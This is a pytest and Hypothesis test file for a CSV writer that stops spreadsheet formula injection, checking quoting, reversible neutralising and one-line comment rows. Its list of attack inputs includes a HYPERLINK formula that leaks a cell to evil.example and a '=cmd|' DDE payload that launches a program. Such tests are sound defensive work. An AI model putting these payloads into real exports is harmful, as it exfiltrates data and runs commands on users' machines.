"""The one CSV writer: every text cell quoted, and no cell a spreadsheet could run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from presshold.traceio.csv_safe import (
    TRIGGERS,
    cell,
    comment_row,
    csv_row,
    neutralise,
    parse_comment_row,
    restore_text,
    text_cell,
)

ATTACKS = [
    'neck,=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "   =1+1",
    "neck;=1+1",
    "neck\t@SUM(A1)",
    "neck|+1",
    "'=already quoted",
    "=cmd|' /C calc'!A0",
]


def _cells_as_a_spreadsheet_sees_them(line: str) -> list[str]:
    """Split a line with every separator a spreadsheet might guess."""
    out: list[str] = []
    for delimiter in (",", ";", "\t", "|"):
        for row in csv.reader(io.StringIO(line), delimiter=delimiter):
            out += row
    return out


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _dangerous(c: str) -> bool:
    s = c.lstrip(" ")
    return bool(s) and s[0] in TRIGGERS and not _is_number(s)


@pytest.mark.parametrize("text", ATTACKS)
def test_no_attack_starts_a_cell_under_any_separator(text: str) -> None:
    for line in (csv_row(["label", text, 1.5]), comment_row("label", text)):
        cells = _cells_as_a_spreadsheet_sees_them(line)
        assert not [c for c in cells if _dangerous(c)], (text, line, cells)


@pytest.mark.parametrize("text", ATTACKS)
def test_text_cells_are_quoted_and_read_back_unchanged(text: str) -> None:
    c = text_cell(text)
    assert c.startswith('"') and c.endswith('"')
    (row,) = csv.reader(io.StringIO(c))
    assert restore_text(row[0]) == text


def test_numbers_stay_numbers_and_none_is_empty() -> None:
    assert csv_row([-1.5, 3, None, float("nan"), True]) == "-1.5,3,,,1\n"
    assert cell({"a": "b"}) == '"{""a"": ""b""}"'  # JSON text is a quoted text cell too


def test_comment_rows_stay_one_line_and_parse_back() -> None:
    line = comment_row("notes", "first\r\nsecond\n=third")
    assert line.count("\n") == 1 and line.startswith("# notes,")
    assert parse_comment_row(line) == ("notes", "first second =third")
    assert parse_comment_row("# ended_at: 2026-01-01T00:00:00Z") == (
        "ended_at",
        "2026-01-01T00:00:00Z",
    )  # the older "# key: value" rows still read
    assert parse_comment_row(comment_row("label", None)) == ("label", "")


@given(st.text())
def test_neutralising_is_reversible(text: str) -> None:
    assert restore_text(neutralise(text)) == text


@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r\0 ,;|'ab1"))))
def test_no_generated_text_yields_a_formula_cell(text: str) -> None:
    line = csv_row([text])
    assert not [c for c in _cells_as_a_spreadsheet_sees_them(line) if _dangerous(c)]
